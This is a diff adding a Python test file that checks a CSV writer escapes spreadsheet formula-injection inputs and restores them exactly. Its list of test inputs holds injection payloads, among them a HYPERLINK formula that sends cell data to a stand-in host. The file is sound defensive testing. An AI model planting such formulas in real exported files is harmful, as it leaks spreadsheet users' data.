@@ -1,0 +1,89 @@
+"""A spreadsheet executes no cell of a file that we write, and our own reader gives back every text."""
+
+import csv
+import re
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gateway.base.tabular import CsvWriter, restored, shown
+
+ROOT = Path(__file__).parents[3]
+EXECUTED = (
+    '=HYPERLINK("http://x.example/?"&A1,"open")',
+    "@SUM(1+1)*2",
+    "+254 is the code",
+    "-2+3 is it",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u200b=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "\u22122+3",
+    '"=1+1',
+    "'=1+1",
+    "a;=1+1",
+    "a\t+1+1",
+    "a\n@SUM(1)",
+    '; "=1+1',
+)
+
+
+def begins(text: str) -> list[str]:
+    """How the cells begin that a spreadsheet of any region may see in this text."""
+    return [part.lstrip(' "\u200b') for part in re.split(r"[;\t\r\n]", text)]
+
+
+@pytest.mark.parametrize("text", EXECUTED)
+def test_a_cell_that_would_be_executed_is_shown(text: str) -> None:
+    for cell in begins(shown(text)):
+        assert not cell.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212"))  # fmt: skip
+    assert restored(shown(text)) == text
+
+
+@pytest.mark.parametrize("text", ["-20", "-20.50", "-1,000.00", "20", "Amina", "a-b", "x=1", "", "'tis", "KES 3"])  # fmt: skip
+def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
+    assert shown(text) == text
+
+
+@given(st.text(st.sampled_from("=+-@'\"; \t\n1a,.\uff1d\u200b\u2212"), max_size=12))
+def test_every_text_is_restored(text: str) -> None:
+    assert restored(shown(text)) == text
+
+
+@given(st.lists(st.text(max_size=8), min_size=1, max_size=4))
+def test_raw_is_for_programs(cells: list[str]) -> None:
+    line = CsvWriter(raw=True).row(cells)
+    if not any("\0" in cell or "\r" in cell for cell in cells):
+        assert next(csv.reader([line], strict=True), []) == cells or "\n" in "".join(cells)
+
+
+def test_numbers_are_written_as_numbers() -> None:
+    assert CsvWriter().row([1, -2.5, None, "=x"]) == "1,-2.5,,'=x\r\n"
+
+
+def test_nothing_else_writes_csv() -> None:
+    """A second writer would be one whose cells a spreadsheet executes."""
+    own = ROOT / "gateway" / "base" / "tabular" / "writer.py"
+    others = [
+        path
+        for path in (ROOT / "gateway").rglob("*.py")
+        if path != own and re.search(r"\bcsv\.(Dict)?[Ww]riter\b|from csv import", path.read_text())
+    ]
+    assert others == []
+
+
+def test_nothing_else_reads_csv() -> None:
+    own = ROOT / "gateway" / "base" / "tabular" / "delimited.py"
+    others = [
+        path
+        for path in (ROOT / "gateway").rglob("*.py")
+        if path != own and re.search(r"\bcsv\.(Dict)?[Rr]eader\b", path.read_text())
+    ]
+    assert others == []
